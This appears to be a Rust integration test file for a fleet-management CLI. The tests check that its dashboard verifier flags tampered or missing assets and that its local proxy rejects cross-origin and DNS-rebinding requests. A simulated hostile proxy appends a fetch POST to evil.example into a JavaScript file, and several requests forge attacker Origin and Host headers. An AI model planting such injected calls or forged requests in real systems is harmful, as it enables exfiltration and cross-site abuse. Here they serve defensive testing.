//! The dashboard from the CLI binary. `verify-dashboard` against the real server finds
//! every file the same, and against a server whose assets were altered (a tampering
//! proxy in front of the real server) names exactly the altered and missing files and
//! exits non-zero. `dashboard` serves the embedded files and forwards the API, and its
//! guard refuses what another web page or a DNS-rebinding name would send.

use std::process::Stdio;
use std::time::Duration;

use axum::body::Body;
use axum::extract::{Request, State};
use axum::http::StatusCode;
use axum::response::Response;
use axum::Router;
use serde_json::{json, Value};
use tokio::io::{AsyncBufReadExt, BufReader};

use crate::common::{Backend, Ctl, FleetServer, Owner, CTL, EMAIL, PASSWORD};

/// A hostile server: the real one, except that it appends code to one file and
/// answers 404 for another.
async fn tampering_server(upstream: String) -> String {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    async fn tamper(State(upstream): State<String>, req: Request) -> Response {
        let path = req.uri().path().to_owned();
        if path == "/css/app.css" {
            return Response::builder()
                .status(StatusCode::NOT_FOUND)
                .body(Body::empty())
                .unwrap();
        }
        let res = reqwest::get(format!("{upstream}{path}")).await.unwrap();
        let status = res.status().as_u16();
        let mut body = res.bytes().await.unwrap().to_vec();
        if path == "/js/crypto.js" {
            body.extend_from_slice(b"\nfetch('https://evil.example/k', {method: 'POST'});\n");
        }
        Response::builder()
            .status(status)
            .body(Body::from(body))
            .unwrap()
    }
    let app = Router::new().fallback(tamper).with_state(upstream);
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    url
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn verify_dashboard_passes_the_real_server_and_names_altered_files() {
    let server = FleetServer::start(Backend::Sqlite);
    let ctl = Ctl::new();

    let out = ctl
        .run(&["verify-dashboard", &server.url()], None)
        .await
        .ok();
    assert!(
        out.stdout.contains("match openclaw-fleet-ctl"),
        "{}",
        out.all()
    );
    let json = ctl
        .run(&["--json", "verify-dashboard", &server.url()], None)
        .await
        .ok()
        .json();
    let files = json["files"].as_array().unwrap();
    assert!(files.len() > 10, "every embedded file is checked: {json}");
    assert!(files.iter().all(|f| f["status"] == "same"), "{json}");
    for path in ["/", "index.html", "js/app.js", "js/crypto.js"] {
        assert!(files.iter().any(|f| f["path"] == path), "{path} checked");
    }

    let hostile = tampering_server(server.url()).await;
    let out = ctl.run(&["verify-dashboard", &hostile], None).await.code(6);
    let named: Vec<&str> = out
        .stdout
        .lines()
        .filter(|l| l.starts_with("DIFFERS") || l.starts_with("MISSING"))
        .collect();
    assert_eq!(
        named,
        ["MISSING  css/app.css (HTTP 404)", "DIFFERS  js/crypto.js"],
        "{}",
        out.all()
    );
    assert!(out.stderr.contains("js/crypto.js"), "{}", out.all());
}

/// `openclaw-fleet-ctl dashboard --server URL`, killed when dropped.
struct LocalDashboard {
    url: String,
    _child: tokio::process::Child,
    _ctl: Ctl,
}

impl LocalDashboard {
    async fn start(server: &str) -> Self {
        let ctl = Ctl::new();
        let mut child = tokio::process::Command::new(CTL)
            .args(["--json", "dashboard", "--server", server])
            .env("OPENCLAW_FLEET_CTL_CONFIG", ctl.config_dir())
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit())
            .kill_on_drop(true)
            .spawn()
            .expect("ctl dashboard starts");
        let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
        let first = tokio::time::timeout(Duration::from_secs(30), lines.next_line())
            .await
            .expect("the dashboard prints its URL")
            .unwrap()
            .expect("a line");
        let first: Value = serde_json::from_str(&first).unwrap();
        assert_eq!(first["server"], server);
        let url = first["url"]
            .as_str()
            .unwrap()
            .trim_end_matches('/')
            .to_owned();
        assert!(url.starts_with("http://127.0.0.1:"), "{url}");
        Self {
            url,
            _child: child,
            _ctl: ctl,
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_local_dashboard_forwards_its_own_calls_and_refuses_other_origins() {
    let server = FleetServer::start(Backend::Sqlite);
    let owner = Owner::register(&server.url(), EMAIL).await;
    let local = LocalDashboard::start(&server.url()).await;
    let url = &local.url;
    let host = url.trim_start_matches("http://").to_owned();
    let http = reqwest::Client::new();

    // The page is this binary's, with the server's security headers.
    let page = http.get(format!("{url}/")).send().await.unwrap();
    assert_eq!(page.status(), 200);
    let csp = page.headers()["content-security-policy"].to_str().unwrap();
    assert!(csp.contains("script-src 'self'") && csp.contains("frame-ancestors 'none'"));
    let served = page.bytes().await.unwrap();
    let real = reqwest::get(format!("{}/", server.url()))
        .await
        .unwrap()
        .bytes()
        .await
        .unwrap();
    assert_eq!(served, real);

    // The server it forwards to, for install commands; the server itself has no such file.
    let info: Value = http
        .get(format!("{url}/local-dashboard.json"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(info["server"], server.url());
    let on_server = reqwest::get(format!("{}/local-dashboard.json", server.url()))
        .await
        .unwrap();
    assert_eq!(on_server.status(), 404);

    // Logging in through it: the server's cookie, kept for http://127.0.0.1.
    let res = http
        .post(format!("{url}/api/auth/login"))
        .header("origin", url.as_str())
        .json(&json!({"email": EMAIL, "password": PASSWORD}))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    let set_cookie = res.headers()["set-cookie"].to_str().unwrap().to_owned();
    assert!(set_cookie.contains("HttpOnly") && set_cookie.contains("SameSite=Strict"));
    assert!(!set_cookie.to_ascii_lowercase().contains("secure"));
    let cookie = set_cookie.split(';').next().unwrap().to_owned();

    let create = |origin: Option<&str>, host: &str, site: Option<&str>| {
        let mut rb = http
            .post(format!("{url}/api/fleets"))
            .header("cookie", &cookie)
            .header("host", host)
            .json(&json!({"name": "through-the-proxy"}));
        if let Some(o) = origin {
            rb = rb.header("origin", o);
        }
        if let Some(s) = site {
            rb = rb.header("sec-fetch-site", s);
        }
        rb.send()
    };
    let evil_host = format!("evil.example:{}", host.rsplit(':').next().unwrap());
    for (what, res) in [
        (
            "another site's Origin",
            create(Some("https://evil.example"), &host, Some("cross-site")).await,
        ),
        (
            "another local port",
            create(Some("http://127.0.0.1:1"), &host, Some("same-site")).await,
        ),
        (
            "localhost is not this origin",
            create(Some(&url.replace("127.0.0.1", "localhost")), &host, None).await,
        ),
        ("no Origin", create(None, &host, None).await),
        (
            "Sec-Fetch-Site cross-site",
            create(Some(url), &host, Some("cross-site")).await,
        ),
        (
            "DNS rebinding (Host)",
            create(Some(url), &evil_host, Some("same-origin")).await,
        ),
    ] {
        let res = res.unwrap();
        assert_eq!(res.status(), 403, "{what}");
        let body: Value = res.json().await.unwrap();
        assert_eq!(body["error"], "cross_origin_refused", "{what}");
    }
    let rebound = http
        .get(format!("{url}/api/me"))
        .header("cookie", &cookie)
        .header("host", &evil_host)
        .send()
        .await
        .unwrap();
    assert_eq!(rebound.status(), 403, "a rebound name cannot read either");
    let (_, fleets) = owner.call(reqwest::Method::GET, "/api/fleets", None).await;
    assert_eq!(
        fleets["fleets"].as_array().map(Vec::len),
        Some(0),
        "nothing was created: {fleets}"
    );

    // The dashboard's own calls pass, including the server's CSRF check.
    let res = create(Some(url), &host, Some("same-origin")).await.unwrap();
    assert_eq!(res.status(), 201);
    let me: Value = http
        .get(format!("{url}/api/me"))
        .header("cookie", &cookie)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(me["email"], EMAIL, "{me}");
}
